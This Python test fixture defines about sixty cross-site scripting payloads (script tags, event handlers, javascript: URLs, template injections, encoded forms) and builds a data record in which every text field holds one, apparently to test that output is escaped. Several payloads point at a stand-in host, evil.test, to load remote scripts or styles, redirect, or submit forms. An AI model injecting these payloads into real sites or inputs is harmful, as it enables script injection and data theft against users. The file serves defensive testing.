"""Sixty ways to smuggle a script into a page, and a reading in which every stored field holds one."""

import datetime as dt
from typing import Any

from graph.model import (
    Document,
    Entity,
    Evidence,
    Mention,
    Notice,
    Outcome,
    Participant,
    Place,
    Reading,
    Report,
    Statement,
    Topic,
)

_RUN = "window.ran=1"
PAYLOADS: tuple[str, ...] = tuple(
    each.replace("{r}", _RUN)
    for each in (
        "<script>{r}</script>",
        "</script><script>{r}</script>",
        "<ScRiPt>{r}</sCrIpT>",
        "<script/src=//evil.test/x.js></script>",
        "<img src=x onerror={r}>",
        "<img/src=x/onerror={r}>",
        "<img src='x' onerror=\"{r}\">",
        '"><img src=x onerror={r}>',
        "'><img src=x onerror={r}>",
        "`><img src=x onerror={r}>",
        "<svg onload={r}>",
        "<svg/onload={r}//",
        "<svg><script>{r}</script></svg>",
        "<svg><animate onbegin={r} attributeName=x></svg>",
        "<svg><a xlink:href=javascript:{r}><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload={r}>#x'></svg>",
        "<math><mtext></mtext><mglyph><style><img src=x onerror={r}></style></mglyph></math>",
        "<body onload={r}>",
        "<iframe src=javascript:{r}></iframe>",
        "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
        "<object data=javascript:{r}></object>",
        "<embed src=javascript:{r}>",
        "<link rel=stylesheet href=//evil.test/x.css>",
        "<style>@import '//evil.test/x.css';</style>",
        "<style>*{background:url(//evil.test/x)}</style>",
        "<meta http-equiv=refresh content='0;url=javascript:{r}'>",
        "<meta http-equiv=refresh content='0;url=//evil.test/'>",
        "<base href=//evil.test/>",
        "<form action=//evil.test/><input type=submit>",
        "<input autofocus onfocus={r}>",
        "<select autofocus onfocus={r}>",
        "<textarea autofocus onfocus={r}>",
        "<details open ontoggle={r}>",
        "<video src=x onerror={r}>",
        "<video><source onerror={r}></video>",
        "<audio src=x onerror={r}>",
        "<marquee onstart={r}>",
        "<div onpointerover={r}>x</div>",
        "<a href=javascript:{r}>x</a>",
        "<a href=' javascript:{r}'>x</a>",
        "<a href='java\tscript:{r}'>x</a>",
        "javascript:{r}",
        "JaVaScRiPt:{r}",
        "data:text/html,<script>{r}</script>",
        "vbscript:{r}",
        "{{constructor.constructor('{r}')()}}",
        "{% raw %}<script>{r}</script>{% endraw %}",
        "${{r}}",
        "<!--<img src=x onerror={r}>-->",
        "<![CDATA[<script>{r}</script>]]>",
        '<noscript><p title="</noscript><img src=x onerror={r}>">',
        "<title></title><script>{r}</script>",
        "<textarea></textarea><script>{r}</script>",
        "<xmp></xmp><script>{r}</script>",
        "<template><script>{r}</script></template>",
        '" onmouseover={r} x="',
        "' onmouseover={r} x='",
        '" autofocus onfocus={r} x="',
        "\\u003cscript\\u003e{r}\\u003c/script\\u003e",
        "&lt;script&gt;{r}&lt;/script&gt;",
        "%3Cscript%3E{r}%3C/script%3E",
    )
)


def hostile_reading(number: int) -> Reading:
    """A document, an encounter and its actors of which every text is payload `number`."""
    bad = PAYLOADS[number]
    day, document_id = dt.date(2023, 6, 1 + number % 28), f"d{number}/{bad[:40]}"
    text = f"{bad} met {bad} in {bad}."
    proof = Evidence(document_id=document_id, start=0, end=len(text), text=text, supports=("participants", bad))
    people: list[dict[str, Any]] = [
        {"entity_id": f"{name}{number}{bad[:30]}", "name": f"{bad} {name}", "kind": "person", "country": "CN"}
        for name in "ab"
    ]
    said = Statement(
        entity_id=people[0]["entity_id"],
        name=bad,
        document_id=document_id,
        start=0,
        end=len(bad),
        text=bad,
        direct=True,
    )
    report = Report(
        id=f"r{number:04}{bad[:30]}",
        type="meeting",
        status="held",
        title=bad,
        participants=tuple(Participant(**each, title=bad, role="host") for each in people),
        start=day,
        end=day,
        date=day.isoformat(),
        date_precision="day",
        date_text=bad,
        date_basis="explicit",
        place=Place(venue=bad, city=bad, country="CN", lat=39.9, lon=116.4),
        topics=(Topic(id=bad[:60], label=bad, text=bad),),
        confidence=0.9,
        evidence=(proof,),
        warnings=(Notice(code=bad, detail=bad),),
        statements=(said,),
        outcomes=(Outcome(kind="agreed", words=bad, start=0, end=len(bad), evidence=proof),),
        document_id=document_id,
        reported=day,
    )
    document = Document(
        id=document_id,
        text=text,
        title=bad,
        published=day,
        published_basis="supplied",
        url=bad,
        source=bad,
        warnings=(Notice(code=bad, detail=bad),),
    )
    mention = Mention(start=0, end=len(bad), text=bad)
    entities = tuple(
        Entity(
            id=each["entity_id"], name=each["name"], kind="person", country="CN", title=bad, qid=bad,
            aliases=(bad, each["name"]), mentions=(mention,),
        )
        for each in people
    )  # fmt: skip
    return Reading(document=document, reports=(report,), entities=entities)
